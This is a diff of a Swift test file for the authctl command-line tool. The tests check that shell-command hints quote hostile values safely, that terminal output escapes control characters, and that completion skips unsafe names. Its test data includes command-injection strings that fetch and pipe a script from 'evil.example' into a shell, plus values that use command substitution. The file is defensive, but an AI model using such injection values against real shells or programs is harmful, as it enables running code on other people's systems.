@@ -6,7 +6,7 @@ import Testing
 @testable import authctl
 
 /// Users paste the hints' commands into shells.
-@Suite struct `A hint` {
+@Suite struct `Hints` {
     static let plain = "oidc.work"
     static let hostile = [
         "x;curl${IFS}evil.example|sh;#", "$(curl evil.example)", "`curl evil.example`", "it's", "a b", "a\nb",
@@ -14,7 +14,7 @@ import Testing
         "a\\b", "!x", "{a,b}", "é", "<a>&b", "--help",
     ]
 
-    /// Every hint, for who named a provider and who did not.
+    /// Every hint, with and without a named provider.
     private func hints(_ v: String) throws -> [Hint] {
         var named = ErrorContext("failed", provider: v, again: "authctl signin --provider \(v)")
         named.command = ["signin"]
@@ -37,7 +37,7 @@ import Testing
         hint.parts.compactMap { part in if case .command(let command) = part { command } else { nil } }
     }
 
-    /// The words of each command, as a real shell passes them on: one for all of them.
+    /// The words of each command as a real shell passes them. One shell runs all commands.
     private func words(_ commands: [ShellCommand]) async throws -> [[String]] {
         let script = """
             words() { printf '%s\\0' "$#" "$@"; }
@@ -61,7 +61,7 @@ import Testing
         return all
     }
 
-    private func isUnderstood(_ words: [String]) -> String? {
+    private func parserError(_ words: [String]) -> String? {
         do {
             _ = try Authctl.parseAsRoot(Array(words.dropFirst()))
             return nil
@@ -70,27 +70,27 @@ import Testing
         }
     }
 
-    /// Values that a parser could take for an option.
-    private static let parsed: Set = [plain, "--config-dir", "-x", "", "--help", "=ls", "a b", "a\nb"]
+    /// Values that a parser could mistake for an option.
+    private static let optionLike: Set = [plain, "--config-dir", "-x", "", "--help", "=ls", "a b", "a\nb"]
 
     @Test(arguments: [plain] + hostile)
-    func `has commands that run as they stand, whatever is in them`(value: String) async throws {
-        // Those without a value are tried once.
+    func `every command in a hint can be pasted into a shell, even with a hostile value`(value: String) async throws {
+        // Hints without the value are tested once.
         var known = value == Self.plain ? [] : Set(try hints("another").flatMap(commands).map(\.text))
         let all = try hints(value).flatMap(commands).filter { known.insert($0.text).inserted }
         let words = try await words(all)
         try #require(words.count == all.count && all.count > 25, "\(all.count)")
         for (command, words) in zip(all, words) {
-            let isOurs = words.first == "authctl"
+            let isAuthctl = words.first == "authctl"
             let others = ["mv", "chmod", "sudo", "unset", "export", "apt-get", "ip", "ulimit"]
-            #expect(isOurs || others.contains(words[0]), "\(command.text)")
-            guard isOurs, Self.parsed.contains(value) else { continue }
-            let fault = isUnderstood(words)
+            #expect(isAuthctl || others.contains(words[0]), "\(command.text)")
+            guard isAuthctl, Self.optionLike.contains(value) else { continue }
+            let fault = parserError(words)
             #expect(fault == nil, "\(command.text): \(fault ?? "")")
         }
     }
 
-    @Test(arguments: hostile) func `has a value as one word, whatever is in it`(value: String) async throws {
+    @Test(arguments: hostile) func `a hostile value in a hint is one shell word`(value: String) async throws {
         let task = ErrorContext("failed", provider: value, again: "authctl signin --provider \(value)")
         let errors: [any Error] = [
             AccountConflict.emailAlreadyInUse(value),
@@ -105,25 +105,25 @@ import Testing
         }
     }
 
-    @Test(arguments: hostile) func `names no provider that cannot be one`(value: String) throws {
+    @Test(arguments: hostile) func `a hint does not repeat an invalid provider ID`(value: String) throws {
         let task = ErrorContext("failed", again: "authctl token")
         let hint = try #require(Failure(NotSignedIn.noSession(provider: value), while: task).hint)
         #expect(commands(hint).map(\.text) == ["authctl signin"])
     }
 
-    private func ours(_ words: some Sequence<String>) throws -> any Command {
+    private func parsed(_ words: some Sequence<String>) throws -> any Command {
         guard let command = try Authctl.parseAsRoot(Array(words)) as? any Command else {
-            throw CommandError(.usage, "no command of ours")
+            throw CommandError(.usage, "not a command of authctl")
         }
         return command
     }
 
     /// Commands that do not use an account.
-    private static let ofNobody: Set = [
+    private static let withoutAccount: Set = [
         "accounts list", "accounts lookup", "accounts switch", "providers", "profile", "setup", "doctor", "pending",
     ]
 
-    @Test func `repeats in each command for whom and what the call was`() throws {
+    @Test func `the commands in hints repeat the profile, account and configuration directory`() throws {
         let (profile, directory) = ("staging", "/tmp/elsewhere")
         let given = RepeatedOptions(
             options: ["--profile": profile, "--account": "bob@example.com", "--config-dir": directory],
@@ -136,12 +136,14 @@ import Testing
                 continue
             }
             tried += 1
-            let options = try ours(words.dropFirst()).options
+            let options = try parsed(words.dropFirst()).options
             #expect(options.configDir == directory, "\(command.text)")
             let place = words.dropFirst().prefix(2).joined(separator: " ")
             let hasProfile = !["profile list", "profile use"].contains(place)
             #expect(options.profile == (hasProfile ? profile : nil), "\(command.text)")
-            guard !Self.ofNobody.contains(place), !Self.ofNobody.contains(words[1]), !words.contains("--retry") else {
+            guard !Self.withoutAccount.contains(place), !Self.withoutAccount.contains(words[1]),
+                !words.contains("--retry")
+            else {
                 continue
             }
             #expect(options.account != nil, "\(command.text)")
@@ -156,22 +158,22 @@ import Testing
         "signin --ci file --audience a --issuer https://i.example --ci-source f --require sub=x --exchange oidc.work --exchange-by jwt-bearer",
         "link --provider oidc.work --dpop --scope a", "reauth --provider oidc.work --par --dpop --flow browser",
     ])
-    func `of a sign-in that failed has all that the sign-in was asked for`(line: String) throws {
-        let command = try ours(line.split(separator: " ").map(String.init))
+    func `the hint for a failed sign-in repeats all of its options`(line: String) throws {
+        let command = try parsed(line.split(separator: " ").map(String.init))
         var task = command.task
         task.command = CommandPlace.path(of: type(of: command))
         let failure = Failure(OAuthError.stateMismatch, while: task)
         let again = try #require(failure.hint.map(commands)?.first)
         let words = try #require(Shell.split(again.text))
-        let repeated = try ours(words.dropFirst())
+        let repeated = try parsed(words.dropFirst())
         #expect(repeated.task.again == task.again)
         let typed = Set(line.split(separator: " ").map { $0 == "5m" ? "300" : String($0) })
         #expect(typed.isSubset(of: words), "\(again.text)")
     }
 
-    @Test func `of a sign-in loses no binding, whatever failed`() throws {
+    @Test func `every hint for a failed sign-in keeps the --dpop and --par options`() throws {
         let line = ["signin", "--provider", Self.plain, "--dpop", "--par"]
-        let command = try ours(line)
+        let command = try parsed(line)
         var task = command.task
         task.command = ["signin"]
         var tried = 0
@@ -185,7 +187,7 @@ import Testing
         #expect(tried > 5, "\(tried)")
     }
 
-    @Test func `of a provider that wants a proof names the flag that makes one`() throws {
+    @Test func `the hint for invalid_dpop_proof adds --dpop unless DPoP was already used`() throws {
         var task = ErrorContext("failed", again: "authctl signin")
         let refused = OAuthError.refused(code: "invalid_dpop_proof", description: nil, at: .token)
         task.command = ["signin"]
@@ -194,14 +196,14 @@ import Testing
         #expect(Failure(refused, while: task).hint == .run("authctl signin"))
     }
 
-    @Test func `tells commands from prose, and ends a clause with each`() throws {
+    @Test func `hints have no command in prose, no placeholder, and punctuation after each command`() throws {
         let names = Set(CommandPlace.all.map { $0.path[0] })
         for hint in try hints(Self.plain) {
             #expect(!hint.text.contains("…"), "\(hint.text)")
             for (index, part) in hint.parts.enumerated() {
                 guard case .prose(let text) = part else { continue }
                 for match in text.matches(of: /\bauthctl ([a-z-]+)/) {
-                    #expect(!names.contains(String(match.1)), "a command that nobody tries: \(hint.text)")
+                    #expect(!names.contains(String(match.1)), "a command that is not tested: \(hint.text)")
                 }
                 guard index > 0, case .command = hint.parts[index - 1] else { continue }
                 #expect([",", ";", " && "].contains { text.hasPrefix($0) }, "\(hint.text)")
@@ -213,7 +215,7 @@ import Testing
         }
     }
 
-    /// The files of Failures, and the cases and commands that stand in them.
+    /// The sources in Failures.
     private func sources() throws -> String {
         let root = URL(filePath: #filePath).deletingLastPathComponent().deletingLastPathComponent()
             .deletingLastPathComponent().deletingLastPathComponent().appending(path: "Sources/authctl/Failures")
@@ -221,7 +223,7 @@ import Testing
             .map { String(decoding: try Data(contentsOf: $0), as: UTF8.self) }.joined(separator: "\n")
     }
 
-    @Test func `of each case and each command in Failures is among those that are tried`() throws {
+    @Test func `these tests cover every error case and every command in Failures`() throws {
         let tried = try AllErrors.all(with: Self.plain).map { "\($0)" }.joined(separator: "\n")
         var cases = 0
         for part in try sources().split(separator: "\nextension ") {
@@ -234,18 +236,18 @@ import Testing
             let body = part[end.upperBound...].firstRange(of: "\n    }")?.lowerBound ?? part.endIndex
             for match in part[..<(isShort ? end.lowerBound : body)].matches(of: /case \.([a-z][A-Za-z]+)/) {
                 cases += 1
-                let isTried = tried.contains(match.1)
-                #expect(isTried, "\(head) .\(match.1)")
+                let isTested = tried.contains(match.1)
+                #expect(isTested, "\(head) .\(match.1)")
             }
         }
         #expect(cases > 130, "\(cases)")
         let commands = try hints(Self.plain).flatMap(commands).map(\.text)
         var found = 0
         for match in try sources().matches(of: /"(authctl (?:[^"\\]|\\\([^"]*?\))*)"/) {
-            // Each interpolation is some text.
+            // An interpolation matches any text.
             let pieces = match.1.split(separator: /\\\([^"]*?\)+/).map(String.init)
             found += 1
-            let isTried = commands.contains { command in
+            let isTested = commands.contains { command in
                 var rest = command[...]
                 for piece in pieces {
                     guard let range = rest.firstRange(of: piece) else { return false }
@@ -253,21 +255,21 @@ import Testing
                 }
                 return command.hasPrefix(pieces[0])
             }
-            #expect(isTried, "\(match.1)")
+            #expect(isTested, "\(match.1)")
         }
         #expect(found > 60, "\(found)")
     }
 }
 
-@Suite struct `A value in a hint` {
-    @Test func `that is plain stays as people write it`() {
+@Suite struct `Values in hints` {
+    @Test func `a plain value in a hint is not quoted`() {
         let hint: ShellCommand = "authctl signin --provider \("oidc.work") --email \("ada+x@example.com") \(5)"
         #expect(hint.text == "authctl signin --provider oidc.work --email ada+x@example.com 5")
         let path: ShellCommand = "chmod 600 \("/home/ada/.config/authctl/key")"
         #expect(path.text == "chmod 600 /home/ada/.config/authctl/key")
     }
 
-    @Test func `with a dash in front is no flag`() {
+    @Test func `a value that starts with a dash is not parsed as an option`() {
         let option: ShellCommand = "authctl signin --provider \("--yes")"
         #expect(option.text == "authctl signin --provider=--yes")
         let argument: ShellCommand = "authctl accounts lookup \("--yes")"
@@ -281,14 +283,14 @@ import Testing
     }
 }
 
-@Suite struct `What is shown on a terminal` {
-    @Test func `of data has its lines and tabs, and nothing hidden`() {
+@Suite struct `Terminal output` {
+    @Test func `shown data keeps line feeds and tabs, and escapes control characters`() {
         let bytes = Array("a\tb\r\nc\u{1B}[31m\u{202E}\n".utf8) + [0x9B, 0x41, 10]
         let shown = Output.shown(bytes)
         #expect(shown == "a\tb\nc\\u{1b}[31m\\u{202e}\n\u{FFFD}A\n")
     }
 
-    @Test func `names that a shell would run are not offered to complete`() {
+    @Test func `completion offers only names without shell syntax or hidden characters`() {
         let names = [
             "ada@example.com", "oidc.work", "$(touch x)@a.example", "`x`@a", "a b", "-x", "x;y@a", "a\nb",
             "é@a.example",
